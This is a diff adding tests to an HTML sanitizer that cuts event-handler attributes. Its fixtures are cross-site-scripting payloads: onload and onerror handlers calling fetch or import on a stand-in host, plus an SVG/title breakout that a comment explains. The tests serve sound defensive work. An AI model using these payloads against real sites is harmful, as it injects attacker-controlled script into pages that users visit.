@@ -153,6 +153,48 @@ def test_readings_with_scripting_off_bound_nothing() -> None:
     assert strip(inside) == (inside, [])
 
 
+# ---- only the handler goes: the page reads as before
+
+CUT = {
+    "breakout-from-svg": (
+        "<svg>" + H + "<title>" + H.replace("x.js", "y.js"),
+        "<svg><img src=x data-jectguard-removed ><title>" + H.replace("x.js", "y.js"),
+    ),
+    "self-closing": (
+        "<svg/onload=\"fetch('//evil.test/')\"/><p>after</p>",
+        "<svg/data-jectguard-removed /><p>after</p>",
+    ),
+    "duplicates": (
+        '<img src=x ONERROR="import(\'//evil.test/\')" onerror="alert(1)">',
+        "<img src=x data-jectguard-removed  data-jectguard-removed >",
+    ),
+    "no-space-after-quote": (
+        "<font onclick=\"fetch('//evil.test/')\"color=red>x</font>",
+        "<font data-jectguard-removed color=red>x</font>",
+    ),
+    "other-handlers-stay": (
+        '<body onload="init()" onerror="import(\'//evil.test/\')"><p>x</p>',
+        '<body onload="init()" data-jectguard-removed ><p>x</p>',
+    ),
+}
+
+
+@pytest.mark.parametrize("fast_path", [True, False])
+@pytest.mark.parametrize("name", sorted(CUT))
+def test_only_the_handler_attribute_is_cut(name: str, fast_path: bool) -> None:
+    doc, expected = CUT[name]
+    out, findings = strip(doc.encode(), fast_path=fast_path)
+    assert out.decode() == expected, findings
+    assert _shape(out.decode()) == _shape(doc)
+
+
+def test_a_cut_handler_is_reported_with_its_start_tag() -> None:
+    doc = "<p>a</p><img src=x onerror=\"import('//evil.test/')\"><p>b</p>"
+    out, (f,) = scanner().strip(doc.encode(), PAGE, "text/html")  # (with the comment)
+    assert (f.element, f.start, f.end, f.evidence) == ("img", 8, 52, "onerror: import")
+    assert out == b"<p>a</p><img src=x data-jectguard-removed ><p>b</p>"
+
+
 # ---- differential: after strip no reference parser builds a loading handler
 
 EVIL = "evil.test"
@@ -201,6 +243,17 @@ def _lexbor_handlers(doc: str) -> list[str]:
     return found
 
 
+def _shape(doc: str) -> list[tuple[int, str]]:
+    """The elements html5lib builds, as (depth, name), in document order."""
+    out: list[tuple[int, str]] = []
+    stack = [(html5lib.parse(doc, scripting=True), 0)]
+    while stack:
+        el, depth = stack.pop()
+        out.append((depth, str(el.tag)))
+        stack.extend((child, depth + 1) for child in reversed(list(el)))
+    return out
+
+
 def _no_handler_survives(doc: str) -> None:
     body = doc.encode()
     for fast_path in (True, False):
@@ -208,6 +261,9 @@ def _no_handler_survives(doc: str) -> None:
         text = out.decode()
         left = _html5lib_handlers(text) + _lexbor_handlers(text)
         assert not left, f"{left} in {text!r} (from {doc!r}; findings {findings})"
+        if all(f.cuts for f in findings if f.removed):
+            # Only handler attributes were cut: the page builds the same elements.
+            assert _shape(text) == _shape(doc), (doc, text)
 
 
 EXAMPLES = [*FAKE_SCRIPTS.values(), *(v for k, v in LONG_TAGS.items() if "long" not in k)]
@@ -240,6 +296,9 @@ def _documents(draw: st.DrawFn) -> str:
 @given(_documents())
 @example("<!-- <script> -->" + HANDLERS[0].format(i=0))
 @example("<a title='<script>'>" + HANDLERS[1].format(i=0))
+# Found by this test: removing the whole <img> start tag (a breakout from SVG) left
+# the SVG open, and the <title> after it, RCDATA in HTML, became SVG's: its <img> ran.
+@example("<svg>" + HANDLERS[0].format(i=1) + "<title>" + HANDLERS[0].format(i=3))
 def test_generated_documents_keep_no_loading_handler(doc: str) -> None:
     _no_handler_survives(doc)
 
